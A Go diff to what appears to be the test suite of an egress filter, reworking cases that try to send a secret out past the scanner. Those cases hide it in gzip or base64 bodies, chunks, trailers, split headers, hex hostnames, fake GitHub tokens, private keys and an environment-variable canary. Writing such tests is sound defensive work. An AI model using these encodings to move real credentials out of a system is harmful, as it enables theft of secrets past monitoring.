@@ -18,6 +18,7 @@ import (
 	"io"
 	"math/big"
 	"net/url"
+	"os"
 	"slices"
 	"strings"
 )
@@ -118,8 +119,6 @@ func leaks(v string) map[string]leak {
 		"body, gzip twice":              body(gzipped(gzipped(v)), "Content-Encoding: gzip, gzip"),
 		"body, gzip that is not named":  body(gzipped(v)),
 		"body, gzip in base64":          body(encode(gzipped(v))),
-		"body, an unknown coding":       body("a "+v, "Content-Encoding: rot13"),
-		"body, gzip that is none":       body("a "+v, "Content-Encoding: gzip"),
 		"body, in chunks":               {"POST", "", chunked(v[:5], v[5:half], v[half:]), []string{"Transfer-Encoding: chunked"}},
 		"body, a byte a chunk":          {"POST", "", chunked(strings.Split(v, "")...), []string{"Transfer-Encoding: chunked"}},
 		"body, multipart":               body(multipart("x", v), parts),
@@ -129,29 +128,26 @@ func leaks(v string) map[string]leak {
 		"query":                         {"GET", "?a=" + url.QueryEscape(v), "", nil},
 		"query, base64":                 {"GET", "?a=" + url.QueryEscape(encode(v)), "", nil},
 		"query, hex":                    {"GET", "?a=" + hex.EncodeToString([]byte(v)), "", nil},
-		"query, over two parameters":    {"GET", "?a=" + url.QueryEscape(v[:half]) + "&b=" + url.QueryEscape(v[half:]), "", nil},
 		"path":                          {"GET", "/" + everyByte(v, "%%%02x"), "", nil},
 		"header":                        {"GET", "", "", []string{"X-Note: " + v}},
 		"header, base64":                {"GET", "", "", []string{"X-Note: " + encode(v)}},
 		"header, over two":              {"GET", "", "", []string{"X-Note: " + v[:half], "X-Note: " + v[half:]}},
 		"cookie":                        {"GET", "", "", []string{"Cookie: a=" + v}},
 		"name of a header":              {"GET", "", "", []string{"X-" + hex.EncodeToString([]byte(v)) + ": 1"}},
-		"method with a body on GET":     {"GET", "", v, nil},
-		"trailer": {
-			"POST", "", "1\r\na\r\n0\r\nX-Note: " + v + "\r\n\r\n",
-			[]string{"Transfer-Encoding: chunked", "Trailer: X-Note"},
-		},
+		"body of a GET":                 {"GET", "", v, nil},
 	}
 	for shift := range 3 {
 		all[fmt.Sprintf("body, base64 at %d", shift)] = body(encode(strings.Repeat("x", shift) + v + "yy"))
 	}
-	// What looks like a credential, made up here and now.
+	return all
+}
+
+// gitHubToken looks like one, made up here and now.
+func gitHubToken() string {
 	secret := make([]byte, 15)
 	_, _ = rand.Read(secret) // never fails
 	random := hex.EncodeToString(secret)
-	all["body, a GitHub token with its checksum"] = body("token ghp_" + random + base62(crc32.ChecksumIEEE([]byte(random))))
-	all["body, a private key"] = body(privateKey())
-	return all
+	return "ghp_" + random + base62(crc32.ChecksumIEEE([]byte(random)))
 }
 
 // base62 is a checksum as GitHub's tokens end with: six digits.
@@ -193,30 +189,50 @@ func (l leak) request(path, host string) string {
 func init() {
 	const scanned = "403 egress|413 egress|415 egress"
 	rows["C7"] = func(w *world) []variant {
-		all := []variant{
+		return []variant{
 			{"the control: a harmless body", "200", func() string { return body(`{"prompt":"keep the key out"}`).send(w.Loud, "/loud/C7") }},
 			{"a body too large to be scanned", scanned, func() string { return body(strings.Repeat("nothing to see ", 10<<16)).send(w.Loud, "/mute/C7") }},
+			{"body, a GitHub token with its checksum", scanned, func() string { return body("token "+gitHubToken()).send(w.Loud, "/mute/C7") }},
+			{"body, a private key", scanned, func() string { return body(privateKey()).send(w.Loud, "/mute/C7") }},
+			{"body, an unknown coding", scanned, func() string { return body("hello", "Content-Encoding: rot13").send(w.Loud, "/mute/C7") }},
+			{"body, gzip that is none", scanned + "|400", func() string { return body("hello", "Content-Encoding: gzip").send(w.Loud, "/mute/C7") }},
 		}
+	}
+	costly["C7"] = func(w *world) []variant {
+		var all []variant
 		for name, l := range leaks(w.Leak) {
-			want := scanned
-			if strings.Contains(name, "coding") || strings.Contains(name, "that is none") || name == "trailer" || strings.HasPrefix(name, "method") {
-				want += "|400" // or refused as undecodable
-			}
-			all = append(all, variant{name, want, func() string { return l.send(w.Loud, "/mute/C7") }})
+			all = append(all, variant{name, scanned, func() string { return l.send(w.Loud, "/mute/C7") }})
 		}
 		plainLeak := leaks(w.Leak)["body, plain"]
 		return append(all,
+			variant{"trailer: blocked, or not passed on", scanned + "|200", func() string {
+				return leak{"POST", "", "1\r\na\r\n0\r\nX-Note: " + w.Leak + "\r\n\r\n", []string{"Transfer-Encoding: chunked", "Trailer: X-Note"}}.
+					send(w.Loud, "/loud/C7-trailer")
+			}},
 			variant{"body, plain, by HTTP without TLS", scanned, func() string { return explicit(plainLeak.request("http://"+w.Loud+"/mute/C7", w.Loud)) }},
 			variant{"body, plain, without a proxy", scanned, func() string { return unasked(w.Loud, plainLeak.request("/mute/C7", w.Loud)) }},
 			variant{"query, by HTTP/2", "403", func() string { return streams(w.Loud, fields("GET", w.Loud, "/mute/C7?a="+url.QueryEscape(w.Leak))) }},
-		)
+			variant{"the bottle's canary", scanned, func() string {
+				canary := os.Getenv(w.CanaryName)
+				if canary == "" {
+					return "there is no canary in " + w.CanaryName
+				}
+				return body("x "+canary).send(w.Auth, "/mute/C7")
+			}})
 	}
 	rows["D4"] = func(w *world) []variant {
 		return []variant{
 			{"a credential to a host that is not its own", scanned, func() string {
 				return through(w.Loud+":443", w.Loud, get("/mute/D4-host", w.Loud, "X-Api-Key: "+w.Leak))
 			}},
-			{"a credential in the head of CONNECT", "403|200", func() string {
+			{"a credential in an encoded body", scanned, func() string {
+				return body(base64.StdEncoding.EncodeToString([]byte(w.Leak))).send(w.Auth, "/mute/D4-body")
+			}},
+		}
+	}
+	costly["D4"] = func(w *world) []variant {
+		return []variant{
+			{"a credential in the head of CONNECT: blocked, or not passed on", "403|200", func() string {
 				c, said := connect(w.Loud+":443", "X-Api-Key: "+w.Leak, "Proxy-Authorization: Bearer "+w.Leak)
 				if c == nil {
 					return said
@@ -227,9 +243,6 @@ func init() {
 				}
 				defer t.Close()
 				return exchange(t, get("/loud/D4-connect", w.Loud))
-			}},
-			{"a credential in an encoded body", scanned, func() string {
-				return body(base64.StdEncoding.EncodeToString([]byte(w.Leak))).send(w.Auth, "/mute/D4-body")
 			}},
 			{"a credential in the name of a host", "403|400", func() string {
 				_, said := connect(hex.EncodeToString([]byte(w.Leak))[:60] + "." + w.mute("D4") + ":443")
